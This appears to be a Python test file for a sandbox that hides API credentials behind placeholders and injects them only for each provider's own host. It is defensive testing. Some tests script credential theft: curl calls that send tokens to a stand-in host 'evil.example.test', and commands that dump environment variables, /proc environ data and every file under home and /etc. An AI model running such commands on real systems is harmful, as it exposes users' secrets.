"""Providers: where their credentials are found and put, and what the sandbox has in their stead."""

import base64
import json
import os
import pty
import re
import secrets
import shutil
import signal
import unittest

import harness
from harness import MOAT, MoatTest, UID, wait_for

HOSTS = ("api.anthropic.com", "api.openai.com", "registry.npmjs.org", "upload.pypi.org",
         "generativelanguage.googleapis.com", "gitlab.com", "api.telegram.org", "api.own.test", "npm.own.test")
# Services whose clients are of many kinds: what these send, and what has to arrive.
OTHERS = (  # provider, host, header, what stands before the credential, the variable that has it
    ("brave-search", "api.search.brave.com", "X-Subscription-Token", "", "BRAVE_API_KEY"),
    ("copilot", "api.githubcopilot.com", "Authorization", "Bearer ", "COPILOT_GITHUB_TOKEN"),
    ("datadog", "api.datadoghq.com", "DD-API-KEY", "", "DD_API_KEY"),
    ("datadog-app", "api.datadoghq.com", "DD-APPLICATION-KEY", "", "DD_APP_KEY"),
    ("elevenlabs", "api.elevenlabs.io", "xi-api-key", "", "ELEVENLABS_API_KEY"),
    ("graphite", "api.graphite.com", "Authorization", "token ", ""),
    ("linear", "api.linear.app", "Authorization", "", "LINEAR_API_KEY"),
    ("meta", "graph.facebook.com", "Authorization", "Bearer ", "META_ACCESS_TOKEN"),
    ("sentry", "us.sentry.io", "Authorization", "Bearer ", "SENTRY_AUTH_TOKEN"),
    ("vercel", "api.vercel.com", "Authorization", "Bearer ", "VERCEL_TOKEN"),
)
HOSTS += tuple(sorted({other[1] for other in OTHERS}))
harness.NAMES = harness.NAMES + HOSTS

OWN = """\
name: own
title: Own
host: api.own.test
hosts:
  - {host: api.own.test, header: X-Own, prefix: "Own ", without: [token]}
sources:
  - {file: ~/.own, format: yaml, key: [a, b]}
  - prompt: Own key
check: {url: "https://api.own.test/v1/me", login: username}
placeholder: "own_{random:32}"
env:
  OWN_KEY: "{placeholder}"
files:
  .config/own: "key={placeholder}\\n"
"""


class Providers(MoatTest):
    @classmethod
    def grant(cls, name, host=None, token=None, flags=(), **options):
        words = ["grant", name, "--upstream-ca", cls.origin.ca, *flags]
        if host:
            words += ["--connect-to", "%s:443=127.0.0.1:%d" % (host, cls.origin.https)]
        if token:
            words.append("--token-stdin")
            options["input"] = token + "\n"
        return cls.moat(*words, **options)

    def good_grant(self, *words, **options):
        done = self.grant(*words, **options)
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertNotIn(self.token, done.stdout + done.stderr)
        return done

    def sh(self, script, *grants, **options):
        flags = [word for grant in grants for word in ("--grant", grant)]
        done = self.run_moat("sh", "-c", script, flags=flags, **options)
        self.assertNotIn(self.token, done.stdout + done.stderr)
        self.assertNotIn(base64.b64encode(self.token.encode()).decode()[:-4],
                         done.stdout + done.stderr)
        return done

    def sent(self, path):
        """The headers of the one request that came to the origin for this path."""
        seen = self.seen_at_origin(path)
        self.assertEqual(len(seen), 1, path)
        return {name.lower(): value for name, value in seen[0]["headers"]}

    # --- where it is put ------------------------------------------------------------------------
    def test_anthropic_by_api_key(self):
        self.good_grant("anthropic", "api.anthropic.com", self.token)
        done = self.sh(
            "curl -s https://api.anthropic.com/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\" "
            "-d \"{\\\"quoted\\\": \\\"$ANTHROPIC_API_KEY\\\"}\" >/dev/null; "
            "curl -s https://api.anthropic.com/v1/foreign -H 'x-api-key: sk-ant-foreign' "
            "-H 'Authorization: Bearer foreign' >/dev/null; echo $ANTHROPIC_API_KEY", "anthropic")
        self.assertRegex(done.stdout, r"^sk-ant-api03-\w{95}\n$")
        for path in ("/v1/messages", "/v1/foreign"):
            headers = self.sent(path)
            self.assertEqual(headers["x-api-key"], self.token)
            self.assertNotIn("authorization", headers)
        first, second = self.trace()
        self.assertEqual(first["injected"], ["anthropic"])
        self.assertEqual([name.lower() for name in second["stripped"]],
                         ["authorization", "x-api-key"])

    def test_anthropic_from_claude_code(self):
        login = self.home / ".claude" / ".credentials.json"
        self.make_dir(login.parent)
        token = "sk-ant-oat01-" + self.token
        login.write_text(json.dumps({"claudeAiOauth": {"accessToken": token, "expiresAt": 4102444800000}}))
        os.chown(login, UID, UID)
        done = self.good_grant("anthropic", "api.anthropic.com")
        self.assertIn("Anthropic credential saved successfully", done.stdout)
        self.assertIn(".credentials.json", done.stdout)
        told = self.good_grant("anthropic", "api.anthropic.com", flags=["--json"])
        self.assertEqual(json.loads(told.stdout)["expires_at"], "2100-01-01T00:00:00.000000Z")
        shutil.rmtree(login.parent)
        done = self.sh(
            "curl -s https://api.anthropic.com/v1/oauth -H 'anthropic-beta: oauth-2025-04-20' "
            "-H \"Authorization: Bearer $CLAUDE_CODE_OAUTH_TOKEN\" >/dev/null; "
            "echo $CLAUDE_CODE_OAUTH_TOKEN:$ANTHROPIC_API_KEY", "anthropic")
        self.assertRegex(done.stdout, r"^sk-ant-oat01-\w{95}:\n$")
        self.assertEqual(self.sent("/v1/oauth")["authorization"], "Bearer " + token)

    def test_openai(self):
        self.good_grant("openai", "api.openai.com", env={"OPENAI_API_KEY": self.token})
        done = self.sh(
            "curl -s https://api.openai.com/v1/responses -d {} "
            "-H \"Authorization: Bearer $OPENAI_API_KEY\" >/dev/null; echo $OPENAI_API_KEY",
            "openai")
        self.assertTrue(done.stdout.startswith("sk-proj-"))
        self.assertEqual(self.sent("/v1/responses")["authorization"], "Bearer " + self.token)

    def test_each_of_the_others(self):
        tokens = {other[0]: "%s_%s" % (other[0].replace("-", "_"), secrets.token_hex(20))
                  for other in OTHERS}
        script = "graphite=$(sed 's/.*: \"//; s/\".*//' ~/.config/graphite/user_config)\n"
        for name, host, header, prefix, variable in OTHERS:
            self.good_grant(name, token=tokens[name], flags=["--no-check"])
            script += ('curl -s -o /dev/null https://%s/at-%s -H "%s: %s$%s" || echo %s\n'
                       % (host, name, header, prefix, variable or "graphite", name))
        done = self.sh(script + "env; cat /proc/*/environ 2>/dev/null; find ~ /tmp /workspace /etc -type f "
                       "2>/dev/null | xargs cat 2>/dev/null; true", *tokens)
        seen = done.stdout + done.stderr + self.moat("audit", "show", "--json").stdout + str(self.trace())
        for name, _, header, prefix, _ in OTHERS:
            self.assertEqual(self.sent("/at-" + name)[header.lower()], prefix + tokens[name])
            self.assertNotIn(tokens[name], seen)

    def test_no_token_is_made_with_another(self):
        paths = {"npm": "registry.npmjs.org/-/npm/v1/tokens", "gitlab": "gitlab.com/api/v4/projects/1/access_tokens",
                 "vercel": "api.vercel.com/v3/user/tokens", "sentry": "us.sentry.io/api/0/api-tokens/",
                 "datadog": "api.datadoghq.com/api/v2/api_keys"}
        for name in paths:
            self.good_grant(name, token=self.token, flags=["--no-check"])
        done = self.sh("".join("curl -s -o /dev/null -w '%%{http_code} ' -X POST https://%s;" % path
                               for path in [*paths.values(), "gitlab.com/api/v4/projects"]), *paths)
        self.assertEqual(done.stdout.split(), ["403"] * 5 + ["200"])

    def test_two_servers_of_a_provider(self):
        self.good_grant("npm", "registry.npmjs.org", self.token)
        other = "npm_" + self.token[4:][::-1]
        self.good_grant("npm:npm.own.test", token=other, flags=["--no-check"])
        twice = self.grant("npm:npm.own.test", token=other, flags=["--no-check", "--host", "x.test"])
        self.assertNotEqual(twice.returncode, 0)
        self.assertIn("says already which server", twice.stderr)
        listed = {json.loads(line)["name"]: json.loads(line)["host"] for line in
                  self.moat("grant", "list", "--json").stdout.splitlines()}
        self.assertEqual(listed["npm"], "registry.npmjs.org")
        self.assertEqual(listed["npm:npm.own.test"], "npm.own.test")
        done = self.sh("for host in registry.npmjs.org npm.own.test; do "
                       "own=$(sed -n \"s,//$host/:_authToken=,,p\" ~/.npmrc); "
                       "curl -s -o /dev/null -H \"Authorization: Bearer $own\" https://$host/at-$host; "
                       "done; cat ~/.npmrc; curl -s -o /dev/null -w '%{http_code}\\n' "
                       "-H \"Authorization: Bearer $own\" https://registry.npmjs.org/astray",
                       "npm", "npm:npm.own.test")
        self.assertRegex(done.stdout, r"^//registry.npmjs.org/:_authToken=npm_\w{36}\n"
                                      r"//npm.own.test/:_authToken=npm_\w{36}\n403\n$")
        self.assertNotIn(other, done.stdout)
        self.assertEqual(self.sent("/at-registry.npmjs.org")["authorization"], "Bearer " + self.token)
        self.assertEqual(self.sent("/at-npm.own.test")["authorization"], "Bearer " + other)
        self.assertEqual(self.moat("revoke", "npm:npm.own.test").returncode, 0)
        missing = self.run_moat("true", flags=["--grant", "npm:npm.own.test"], expect=125)
        self.assertIn("moat grant npm:npm.own.test", missing.stderr)
        for bad in ("aws:x.test", "gemini:x.test", "npm:", "npm:a b", "none:x.test"):
            done = self.grant(bad, token="x", flags=["--no-check"])
            self.assertNotEqual(done.returncode, 0, bad)

    def test_npm_finds_itself_logged_in(self):
        npmrc = self.home / ".npmrc"
        npmrc.write_text("//registry.npmjs.org/:_authToken=%s\n" % self.token)
        os.chown(npmrc, UID, UID)
        self.good_grant("npm", "registry.npmjs.org")
        npmrc.unlink()
        # What npm sends, and npm itself where there is one.
        done = self.sh(
            "t=$(sed -n 's,^//registry.npmjs.org/:_authToken=,,p' ~/.npmrc); "
            "curl -s https://registry.npmjs.org/-/whoami?mine -H \"Authorization: Bearer $t\" "
            ">/dev/null; stat -c %a ~/.npmrc; test $t = $NPM_TOKEN && echo $t; "
            "command -v npm >/dev/null && npm whoami || echo your-username", "npm")
        self.assertRegex(done.stdout, r"^600\nnpm_\w{36}\nyour-username\n$")
        self.assertEqual(self.sent("/-/whoami?mine")["authorization"], "Bearer " + self.token)
        for entry in self.seen_at_origin("/-/whoami"):
            self.assertIn("Bearer " + self.token, dict(entry["headers"]).values())

    def test_pypi_is_basic(self):
        self.good_grant("pypi", token=self.token)
        self.sh("curl -s https://upload.pypi.org/legacy/ -u $TWINE_USERNAME:$TWINE_PASSWORD -d x "
                ">/dev/null", "pypi")
        basic = base64.b64encode(("__token__:" + self.token).encode()).decode()
        self.assertEqual(self.sent("/legacy/")["authorization"], "Basic " + basic)

    def test_gitlab_takes_two_headers(self):
        self.good_grant("gitlab", "gitlab.com", self.token)
        self.sh("curl -s 'https://gitlab.com/api/v4/user?private_token=foreign' "
                "-H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" >/dev/null", "gitlab")
        seen = [entry for entry in self.seen_at_origin("/api/v4/user") if entry["host"] == "gitlab.com"]
        headers = dict(seen[-1]["headers"])
        self.assertEqual(headers["PRIVATE-TOKEN"], self.token)
        basic = base64.b64encode(("oauth2:" + self.token).encode()).decode()
        self.assertEqual(headers["Authorization"], "Basic " + basic)

    def test_gemini_in_the_query_or_the_header(self):
        self.good_grant("gemini", "generativelanguage.googleapis.com", self.token)
        self.sh("curl -s \"https://generativelanguage.googleapis.com/v1beta/a?key=$GEMINI_API_KEY\" "
                ">/dev/null; curl -s 'https://generativelanguage.googleapis.com/v1beta/b?key=foreign"
                "&alt=sse' >/dev/null", "gemini")
        self.assertEqual(self.sent("/v1beta/a")["x-goog-api-key"], self.token)
        self.assertEqual(self.sent("/v1beta/b?alt=sse")["x-goog-api-key"], self.token)

    def test_telegram_in_the_path(self):
        token = "987654321:" + self.token
        self.good_grant("telegram", "api.telegram.org", token)
        self.assertEqual(len(self.seen_at_origin("/bot%s/getMe" % token)), 1)
        done = self.sh(
            "curl -si https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage?text=x; "
            "curl -s https://api.telegram.org/botFOREIGN/getUpdates >/dev/null; "
            "curl -s --path-as-is https://api.telegram.org/botA/../botFOREIGN/x >/dev/null",
            "telegram")
        self.assertEqual(len(self.seen_at_origin("/bot%s/sendMessage?text=x" % token)), 1)
        self.assertEqual(len(self.seen_at_origin("/bot%s/getUpdates" % token)), 1)
        self.assertFalse([entry for entry in self.origin.requests()
                          if "FOREIGN" in entry.get("path", "")])
        self.assertIn("****", done.stdout)  # the path that came back, in a header and the body
        self.assertNotIn(token, done.stdout)
        for words in (["trace", "--network", "-v"], ["trace", "--network", "--json"]):
            self.assertNotIn(self.token, self.moat(*words).stdout)

    def test_github_has_a_login_for_gh(self):
        self.grant_github()
        done = self.sh(
            "sed -n 's/.*oauth_token: //p' ~/.config/gh/hosts.yml | tee placeholder; "
            "curl -s https://api.github.com/user -H \"Authorization: token $(cat placeholder)\"; "
            "env | grep -i token", "github", expect=1)
        self.assertRegex(done.stdout, r"^ghp_\w{36}\n")
        self.assertIn("your-username", done.stdout)

    # --- placeholders ---------------------------------------------------------------------------
    def test_a_placeholder_goes_nowhere_else(self):
        self.good_grant("openai", "api.openai.com", self.token)
        self.grant_github()
        there = "https://evil.example.test"
        script = """
        t=$OPENAI_API_KEY
        g=$(sed -n 's/.*oauth_token: //p' ~/.config/gh/hosts.yml)
        try() { curl -s -o /dev/null -D head -w '%%{http_code} ' "$@"; grep -i '^x-moat-reason' head; echo; }
        try -H "Authorization: Bearer $t" %(there)s/open/bearer
        try -u "user:$t" %(there)s/open/basic
        try "%(there)s/open/query?k=$t"
        try "%(there)s/open/$t"
        try -H "X-Other: $g" %(there)s/open/other
        try -H "Authorization: Bearer $g" https://api.openai.com/open/crossed
        try -H "Authorization: Bearer $t" http://evil.example.test/open/plain
        try -d "text=$t" %(there)s/open/body
        """ % {"there": there}
        lines = [line for line in self.sh(script, "openai", "github").stdout.splitlines() if line]
        for line, grant in zip(lines, ["openai"] * 4 + ["github"] * 2 + ["openai"]):
            self.assertTrue(line.startswith("403 "), line)
            self.assertIn("the placeholder of the grant %s to " % grant, line)
        self.assertEqual(lines[7:], ["200 "])
        paths = [entry.get("path") for entry in self.origin.requests()]
        for name in ("bearer", "basic", "other", "crossed", "plain"):
            self.assertNotIn("/open/" + name, paths)
        self.assertIn("/open/body", paths)
        refused = [exchange for exchange in self.trace() if exchange["refused"]]
        self.assertEqual(len(refused), 7)
        self.assertEqual({exchange["rule"] for exchange in refused}, {"placeholder"})

    def test_the_secrets_are_nowhere_in_the_sandbox(self):
        names = ("anthropic", "openai", "npm", "github")
        for name, host in zip(names, HOSTS):
            if name != "github":
                self.good_grant(name, host, self.token)
        self.grant_github()
        for name in ("gitlab", "telegram", "pypi", "gemini"):
            self.good_grant(name, token=self.token, flags=["--no-check"])
            names += (name,)
        done = self.sh(
            "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; "
            "find ~ /tmp /run /workspace /etc -type f 2>/dev/null | xargs cat 2>/dev/null; true",
            *names)
        for shape in (r"sk-ant-api03-\w{95}", r"sk-proj-\w{156}", r"npm_\w{36}", r"ghp_\w{36}"):
            self.assertRegex(done.stdout, shape)
        again = self.sh("env", *names)
        self.assertNotIn(re.search(r"sk-proj-\w+", done.stdout)[0], again.stdout)

    def test_what_the_user_sets_stays(self):
        self.good_grant("openai", "api.openai.com", self.token)
        done = self.run_moat("sh", "-c", "echo $OPENAI_API_KEY",
                             flags=["--grant", "openai", "--env", "OPENAI_API_KEY=mine"])
        self.assertEqual(done.stdout, "mine\n")

    # --- providers of one's own -----------------------------------------------------------------
    def write_provider(self, text, name="own.yaml"):
        folder = self.moat_home / "providers"
        if not self.moat_home.exists():
            self.moat("list")
            self.make_dir(self.moat_home) if not self.moat_home.exists() else None
        if not folder.exists():
            self.make_dir(folder)
        (folder / name).write_text(text)
        self.addCleanup((folder / name).unlink)

    def test_a_provider_of_ones_own(self):
        self.write_provider(OWN)
        key = self.home / ".own"
        key.write_text("a: {b: %s}\n" % self.token)
        os.chown(key, UID, UID)
        done = self.good_grant("own", "api.own.test", flags=["--json"])
        self.assertEqual(json.loads(done.stdout)["login"], "your-username")
        self.assertEqual(self.sent("/v1/me")["x-own"], "Own " + self.token)
        key.unlink()
        done = self.sh("curl -s \"https://api.own.test/v1/it?token=$OWN_KEY&x=y\" -H 'X-Own: foreign'"
                       " >/dev/null; cat ~/.config/own; echo key=$OWN_KEY", "own")
        self.assertEqual(self.sent("/v1/it?x=y")["x-own"], "Own " + self.token)
        first, second = done.stdout.splitlines()
        self.assertEqual(first, second)
        listed = [json.loads(line) for line in
                  self.moat("grant", "providers", "--json").stdout.splitlines()]
        own = [provider for provider in listed if provider["name"] == "own"][0]
        self.assertEqual(own["env"], ["OWN_KEY"])
        self.assertEqual(own["where"], str(self.moat_home / "providers" / "own.yaml"))
        self.assertIn("api.anthropic.com", self.moat("grant", "providers").stdout)

    def test_a_bad_provider_is_an_error_with_its_place(self):
        self.write_provider(OWN.replace("check:", "chekc:"))
        place = "own.yaml:9:1: unknown key 'chekc', did you mean 'check'?"
        for words in (["grant", "providers"], ["grant", "own"], ["grant", "github"],
                      self.run_arguments("true")):
            done = self.moat(*words)
            self.assertNotEqual(done.returncode, 0)
            self.assertIn(place, done.stderr)

    # --- asking ---------------------------------------------------------------------------------
    def test_without_a_token_it_says_where_it_looked(self):
        done = self.grant("openai")
        self.assertEqual(done.returncode, 1)
        self.assertIn("OPENAI_API_KEY or ~/.codex/auth.json", done.stderr)
        self.assertIn("--token-stdin", done.stderr)
        done = self.grant("openai", flags=["--host", "openai.example.com"])
        self.assertEqual(done.returncode, 2)
        self.assertIn("is on api.openai.com only", done.stderr)

    def ask_on_a_terminal(self, typed, **options):
        ours, theirs = pty.openpty()
        process = self.start("grant", "openai", "--no-check", stdin=theirs, stderr=theirs, **options)
        shown = b""
        os.set_blocking(ours, False)

        def read():
            nonlocal shown
            try:
                shown += os.read(ours, 4096)
            except BlockingIOError:
                pass
            return b"OpenAI API key: " in shown or process.poll() is not None

        wait_for(read)
        if typed:
            os.write(ours, typed)
        else:
            process.send_signal(signal.SIGINT)
        out, _ = process.communicate(timeout=20)
        read()
        os.close(ours)
        os.close(theirs)
        return process.returncode, out.decode(), shown.decode()

    def test_a_person_is_asked_and_what_is_typed_is_not_shown(self):
        status, out, shown = self.ask_on_a_terminal(self.token.encode() + b"\n")
        self.assertEqual((status, out), (0, "OpenAI credential saved successfully\n"))
        self.assertIn("OpenAI API key: ", shown)
        self.assertNotIn(self.token, shown)
        status, out, shown = self.ask_on_a_terminal(b"")
        self.assertEqual(status, 130)
        status, out, shown = self.ask_on_a_terminal(b"x\n", env={"MOAT_NO_PROMPT": "1"})
        self.assertEqual(status, 1)
        self.assertNotIn("OpenAI API key: ", shown)


if __name__ == "__main__":
    harness.main()
